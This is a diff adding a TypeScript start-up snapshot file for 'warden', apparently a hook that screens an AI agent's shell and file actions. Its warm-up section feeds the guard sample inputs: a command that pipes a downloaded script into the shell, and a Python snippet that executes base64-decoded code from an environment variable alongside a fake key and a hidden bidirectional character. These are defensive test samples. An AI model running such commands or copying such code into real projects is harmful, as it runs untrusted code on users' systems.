@@ -1,0 +1,81 @@
+/**
+ * The entry of the hook's V8 start-up snapshot (dist/hook-<node version>.blob, made by
+ * `npm run build` with `node --build-snapshot`). An agent starts a new process per tool call, and
+ * most of a plain Node start of `warden hook` is spent loading code: compiling the bundle and
+ * initialising mvdan-sh's Go runtime (about 70 ms). The snapshot holds the heap after all of that,
+ * so a hook started with `node --snapshot-blob <blob> hook AGENT` begins with the parser, the
+ * policy engine and the analyzers ready. Native modules (better-sqlite3 for the audit log,
+ * ast-grep for written code) cannot be in a snapshot and load at run time as usual.
+ *
+ * The blob is only valid for the Node binary that made it and for this package folder: a
+ * mismatch exits with SNAPSHOT_STALE, and the installed hook command (src/hooks/install.ts) then
+ * runs the ordinary `warden hook`, so a Node upgrade makes the guard slower, never absent.
+ */
+import { startupSnapshot } from 'node:v8';
+import { readdirSync, statSync } from 'node:fs';
+import { join } from 'node:path';
+import { PACKAGE_ROOT } from '../paths.ts';
+import { hookCommand } from '../cli/guard.ts';
+import { builtinPolicy } from '../engine/policy.ts';
+import { judge } from '../engine/judge.ts';
+import { loadMvdan } from '../analyzers/shell/mvdan.ts';
+import { loadRules } from '../rules/loader.ts';
+import { SourceFile } from '../analyzers/source.ts';
+import { analyzeBackdoors } from '../analyzers/backdoor.ts';
+import { analyzeSecrets } from '../analyzers/secrets/index.ts';
+import { analyzeUnicode } from '../analyzers/unicode.ts';
+
+/** Exit code of a blob that does not belong to this Node or this package folder. */
+export const SNAPSHOT_STALE = 3;
+
+const builtWith = process.version;
+const execPath = process.execPath;
+const builtAt = Date.now();
+
+/** The sources (code, rule packs, policy) and their folders the snapshot was made from. */
+function sourcePaths(dir = join(PACKAGE_ROOT, 'src'), out: string[] = [dir]): string[] {
+  for (const e of readdirSync(dir, { withFileTypes: true })) {
+    const p = join(dir, e.name);
+    if (e.isDirectory()) { out.push(p); sourcePaths(p, out); }
+    else if (/\.(ts|yml|json)$/.test(e.name)) out.push(p);
+  }
+  return out;
+}
+
+/**
+ * Whether a source changed since the build: an edited file has a newer mtime, and an added,
+ * removed or renamed file a newer mtime of its folder. Stats the known paths only (no folder
+ * walk), about a millisecond.
+ */
+function sourcesChanged(paths: string[]): boolean {
+  for (const p of paths) if ((statSync(p, { throwIfNoEntry: false })?.mtimeMs ?? Infinity) > builtAt) return true;
+  return false;
+}
+
+if (startupSnapshot.isBuildingSnapshot()) {
+  // Warm-up: load the shell parser and run the engine once over typical commands, so the lazily
+  // built parts (the parser's Go packages, the built-in policy, compiled patterns) are in the heap.
+  loadMvdan();
+  const policy = builtinPolicy();
+  for (const command of ['ls -la', 'git add -A && git commit -m "$(date)" | tee /tmp/log', 'curl -s https://example.com/x.sh | sh', 'python3 -c "import os; print(os.getcwd())"']) {
+    judge({ tool: 'shell', command }, { policy, cwd: '/tmp/ws', workspace: '/tmp/ws' });
+  }
+  judge({ tool: 'read', path: '/tmp/ws/README.md' }, { policy, cwd: '/tmp/ws', workspace: '/tmp/ws' });
+  // The rule packs, and the text analyzers once over a sample (ast-grep itself is native and
+  // loads at run time).
+  loadRules();
+  const sample = new SourceFile('/tmp/ws/app.py', 'import os, base64\nAPI_KEY = "sk-test"\nexec(base64.b64decode(os.environ["X"]))\n# \u202e\n', 'python');
+  analyzeBackdoors(sample); analyzeSecrets(sample); analyzeUnicode(sample);
+  const sources = sourcePaths();
+  startupSnapshot.setDeserializeMainFunction(async () => {
+    // Another Node, a moved package or sources changed since the build: the ordinary hook answers.
+    let stale = process.version !== builtWith || process.execPath !== execPath;
+    try { stale ||= sourcesChanged(sources); } catch { stale = true; }
+    if (stale) {
+      process.exitCode = SNAPSHOT_STALE;
+      return;
+    }
+    // argv: [node, 'hook', AGENT, ...flags]
+    process.exitCode = await hookCommand(process.argv.slice(2));
+  });
+}
